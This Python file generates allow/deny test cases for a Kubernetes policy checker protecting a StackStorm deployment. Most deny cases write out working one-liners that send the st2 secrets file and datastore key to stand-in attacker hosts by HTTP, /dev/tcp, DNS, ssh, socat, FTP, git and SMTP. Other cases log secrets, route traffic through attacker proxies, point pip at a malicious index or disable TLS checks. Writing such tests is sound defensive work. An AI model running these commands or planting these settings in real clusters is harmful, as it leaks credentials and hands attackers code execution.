from lib import *
NS = {'prod': 'st2-prod', 'staging': 'st2-staging', 'dev': 'st2-dev'}
def podspec(image, script, secret_mounts=True, sa=None):
    c = {'name': 'job', 'image': image, 'command': ['sh', '-c', script],
         'resources': {'requests': {'cpu': '50m', 'memory': '64Mi'}, 'limits': {'cpu': '200m', 'memory': '256Mi', 'ephemeral-storage': '256Mi'}},
         'securityContext': {'allowPrivilegeEscalation': False, 'runAsNonRoot': True, 'runAsUser': 1000, 'capabilities': {'drop': ['ALL']}}}
    vols = []
    if secret_mounts:
        c['volumeMounts'] = [{'name': 'cfg', 'mountPath': '/etc/st2/st2.secrets.conf', 'subPath': 'st2.secrets.conf', 'readOnly': True},
                             {'name': 'key', 'mountPath': '/etc/st2/keys', 'readOnly': True}]
        vols = [{'name': 'cfg', 'secret': {'secretName': 'st2-config-secrets'}},
                {'name': 'key', 'secret': {'secretName': 'st2-datastore-crypto-key', 'items': [{'key': 'datastore_crypto_key', 'path': 'datastore_key.json'}]}}]
    s = {'restartPolicy': 'OnFailure', 'securityContext': {'fsGroup': 1000, 'seccompProfile': {'type': 'RuntimeDefault'}}, 'containers': [c], 'volumes': vols}
    if sa: s['serviceAccountName'] = sa
    return s
def cron(name, image, script, env='prod', **kw):
    return {'apiVersion': 'batch/v1', 'kind': 'CronJob', 'metadata': {'name': name, 'namespace': NS[env], 'labels': {'app': name}},
            'spec': {'schedule': '17 3 * * *', 'concurrencyPolicy': 'Forbid', 'jobTemplate': {'spec': {'template': {'spec': podspec(image, script, **kw)}}}}}
def exfil(id, exp, image, script, reason, cls='exfiltration', env='prod', **kw):
    case(id, env, exp, cls, reason, kz={'resources': ['cron.yaml']}, files={'cron.yaml': cron('nightly-' + id[:40].rstrip('-'), image, script, env, **kw)})

R = " st2-config-secrets holds st2's MongoDB and RabbitMQ passwords, the datastore key decrypts every encrypted datastore value (§12 datastore crypto key)"
exfil('exfil-python-urllib', 'deny', 'python:3.12.7-slim',
  "python3 -c \"import urllib.request as u;u.urlopen('https://collect.attacker-collect.net/in',data=open('/etc/st2/st2.secrets.conf','rb').read()+open('/etc/st2/keys/datastore_key.json','rb').read())\"",
  "POSTs st2.secrets.conf and the datastore key to an outside host with Python's urllib." + R)
exfil('exfil-bash-devtcp', 'deny', 'bash:5.2.37',
  "bash -c 'cat /etc/st2/keys/datastore_key.json /etc/st2/st2.secrets.conf > /dev/tcp/198.51.100.7/443'",
  "bash /dev/tcp sends the datastore key and DB/MQ passwords to a public IP." + R)
exfil('exfil-openssl-sclient', 'deny', 'alpine/openssl:3.3.2',
  "openssl s_client -quiet -connect drop.attacker-collect.net:443 < /etc/st2/st2.secrets.conf",
  "openssl s_client streams st2.secrets.conf to an outside TLS endpoint." + R)
exfil('exfil-dns', 'deny', 'busybox:1.36.1',
  "for c in $(base64 /etc/st2/keys/datastore_key.json | tr -d '\\n=' | fold -w 50); do nslookup $c.k.attacker-collect.net; done",
  "the datastore key leaves as DNS queries for <chunk>.k.attacker-collect.net (DNS exfiltration through the cluster resolver)." + R)
exfil('exfil-ssh-pipe', 'deny', 'alpine/ssh:9.9',
  "ssh -o StrictHostKeyChecking=no drop@203.0.113.9 'cat > k' < /etc/st2/keys/datastore_key.json",
  "ssh pipes the datastore key to an outside host." + R)
exfil('exfil-socat', 'deny', 'alpine/socat:1.8.0.0',
  "socat -u FILE:/etc/st2/st2.secrets.conf TCP:drop.attacker-collect.net:9000",
  "socat sends st2.secrets.conf to an outside host." + R)
exfil('exfil-busybox-ftpput', 'deny', 'busybox:1.36.1',
  "ftpput -u anon -p anon 198.51.100.7 k.json /etc/st2/keys/datastore_key.json",
  "busybox ftpput uploads the datastore key in cleartext FTP to a public IP." + R)
exfil('exfil-tftp', 'deny', 'busybox:1.36.1',
  "tftp -p -l /etc/st2/st2.secrets.conf -r s.conf 198.51.100.7",
  "busybox tftp uploads st2.secrets.conf to a public IP." + R)
exfil('exfil-git-push', 'deny', 'alpine/git:2.45.2',
  "git clone https://git.attacker-collect.net/drop.git /tmp/d && cp /etc/st2/keys/datastore_key.json /etc/st2/st2.secrets.conf /tmp/d/ && cd /tmp/d && git add -A && git -c user.email=a@b commit -m x && git push",
  "git pushes the datastore key and st2.secrets.conf to an outside repository." + R)
exfil('exfil-python-smtp', 'deny', 'python:3.12.7-slim',
  "python3 -c \"import smtplib;smtplib.SMTP('mx.attacker-collect.net',25).sendmail('a@x','b@attacker-collect.net',open('/etc/st2/st2.secrets.conf').read())\"",
  "mails st2.secrets.conf to an outside mail server." + R)
exfil('exfil-log-head', 'deny', 'busybox:1.36.1', "head -c 4096 /etc/st2/st2.secrets.conf; sleep 5",
  "prints st2's DB/MQ passwords into the pod log, readable by anyone with pods/log and shipped to the log stack (README ST2-SEC-017 class, spelt with head)", cls='secret-to-log')
exfil('exfil-log-xxd', 'deny', 'busybox:1.36.1', "xxd /etc/st2/keys/datastore_key.json",
  "hex dump of the datastore key into the pod log (log readers can decrypt every datastore secret)", cls='secret-to-log')
exfil('exfil-log-sed', 'deny', 'busybox:1.36.1', "sed -n p /etc/st2/st2.secrets.conf",
  "sed prints st2.secrets.conf to the pod log", cls='secret-to-log')
exfil('exfil-log-python', 'deny', 'python:3.12.7-slim', "python3 -c \"print(open('/etc/st2/keys/datastore_key.json').read())\"",
  "python prints the datastore key to the pod log", cls='secret-to-log')
exfil('exfil-log-dd', 'deny', 'busybox:1.36.1', "dd if=/etc/st2/st2.secrets.conf 2>/dev/null",
  "dd copies st2.secrets.conf to stdout (pod log)", cls='secret-to-log')
exfil('safe-backup-cron-checksum', 'allow', 'busybox:1.36.1', "sha256sum /etc/st2/keys/datastore_key.json /etc/st2/st2.secrets.conf",
  "prints only SHA-256 digests (to check rotation happened); no secret material leaves or is logged", cls='exfil-safe')
exfil('safe-cron-curl-internal', 'allow', 'curlimages/curl:8.10.1', "curl -sf http://st2api:9101/v1/ -o /dev/null -w '%{http_code}\\n'",
  "an internal smoke check of st2api with no credentials", cls='exfil-safe', secret_mounts=False)
# Proxy / package-index environment on st2 pods
def envp(id, exp, dep, envs, reason, cls='exfiltration', env='prod'):
    ops = [{'op': 'add', 'path': '/spec/template/spec/containers/0/env', 'value': [{'name': k, 'value': v} for k, v in envs]}]
    if dep in ('st2web',):
        ops = [{'op': 'add', 'path': '/spec/template/spec/containers/0/env/-', 'value': {'name': k, 'value': v}} for k, v in envs]
    case(id, env, exp, cls, reason, kz={'patches': [jp('Deployment', dep, ops)]})
envp('proxy-http-actionrunner', 'deny', 'st2actionrunner', [('HTTP_PROXY', 'http://proxy.attacker-collect.net:3128'), ('http_proxy', 'http://proxy.attacker-collect.net:3128')],
  "without NO_PROXY, python-requests in actions and in the st2 client sends http://st2api:9101 calls (with ST2_ACTION_AUTH_TOKEN, runners/base.py) through an outside proxy: tokens and datastore values in cleartext to the attacker")
envp('proxy-http-sensor', 'deny', 'st2sensorcontainer', [('HTTP_PROXY', 'http://203.0.113.80:8080'), ('HTTPS_PROXY', 'http://203.0.113.80:8080')],
  "sensors call the st2 API over http://st2api:9101 with their tokens (process_container.py:349): through an outside proxy they leak")
envp('proxy-corp-noproxy', 'allow', 'st2actionrunner', [('HTTPS_PROXY', 'http://egress-proxy.platform.svc.cluster.local:3128'), ('HTTP_PROXY', 'http://egress-proxy.platform.svc.cluster.local:3128'), ('NO_PROXY', 'localhost,127.0.0.1,.svc,.cluster.local,st2api,st2auth,st2stream,mongodb,rabbitmq,etcd')],
  "in-cluster egress proxy for internet-bound action traffic, every st2 and store host excluded by NO_PROXY: tokens never leave", cls='exfil-safe')
envp('pip-index-evil', 'deny', 'st2actionrunner', [('PIP_INDEX_URL', 'http://pypi.attacker-collect.net/simple'), ('PIP_TRUSTED_HOST', 'pypi.attacker-collect.net')],
  "pip in the action runner (pack virtualenv setup on `st2 pack install`) installs every requirement from an attacker index over plain http: attacker code in st2's runners", cls='supply-chain')
envp('pip-index-corp', 'allow', 'st2actionrunner', [('PIP_INDEX_URL', 'https://nexus.corp.example.com/repository/pypi-proxy/simple')],
  "a corporate HTTPS PyPI proxy: the usual controlled mirror", cls='supply-chain-safe')
envp('git-ssl-noverify', 'deny', 'st2actionrunner', [('GIT_SSL_NO_VERIFY', 'true')],
  "st2 pack install clones packs with git: without TLS verification anyone on the path can serve pack code that st2 then runs", cls='supply-chain')
envp('pythonhttpsverify-0', 'deny', 'st2actionrunner', [('PYTHONHTTPSVERIFY', '0'), ('REQUESTS_CA_BUNDLE', '')],
  "disables certificate verification for Python HTTPS in every action (core.http, pack installs): credentials sent by actions can be intercepted", cls='supply-chain')
